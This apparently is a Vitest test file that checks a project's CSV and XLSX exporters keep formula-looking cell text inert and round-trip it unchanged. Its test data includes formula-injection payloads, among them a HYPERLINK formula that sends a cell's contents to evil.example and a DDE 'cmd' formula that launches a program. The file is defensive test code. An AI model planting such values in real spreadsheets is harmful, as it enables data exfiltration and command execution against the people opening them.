import { strFromU8, unzipSync } from 'fflate';
import { expect, test } from 'vitest';
import { csvText } from '../../src/exchange/export/index.ts';
import { readSourceFile } from '../../src/exchange/read/readSourceFile.ts';
import { writeXlsx } from '../../src/node/exchange/writeXlsx.ts';

// A text that a spreadsheet would reckon stays the text that it is, and comes back as it was.

const texts = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "'=1",
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "=cmd|'/c calc'!A0",
  '=1,"2"\n=3',
];
const table = {
  name: '表',
  columns: [{ title: '=标题', to: 'name' }],
  rows: texts.map((text) => [text]),
};

test('in comma-separated values', async () => {
  const csv = csvText(table);
  // Outside quotation marks every field begins a line here, within them after the mark.
  for (const line of csv
    .slice(1)
    .split('\r\n')
    .filter((one) => one !== ''))
    expect(line.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
  const read = await readSourceFile('a.csv', new TextEncoder().encode(csv));
  const part = read.kind === 'unreadable' ? undefined : read.file.parts[0];
  const back = part?.kind === 'grid' ? part.rows.map((row) => row[0]?.text) : [];
  expect(back).toEqual(['=标题', 'name', ...texts]);
});

test('in a workbook, which holds no formula at all', async () => {
  const parts = unzipSync(await writeXlsx([table]));
  const sheets = Object.keys(parts).filter((name) => /^xl\/worksheets\/[^/]+\.xml$/.test(name));
  expect(sheets).toHaveLength(1);
  for (const name of sheets) expect(strFromU8(parts[name]!)).not.toMatch(/<f[ >]/);
  const strings = Object.values(parts)
    .map((bytes) => strFromU8(bytes))
    .join('');
  expect(strings).toContain('=HYPERLINK(');
});
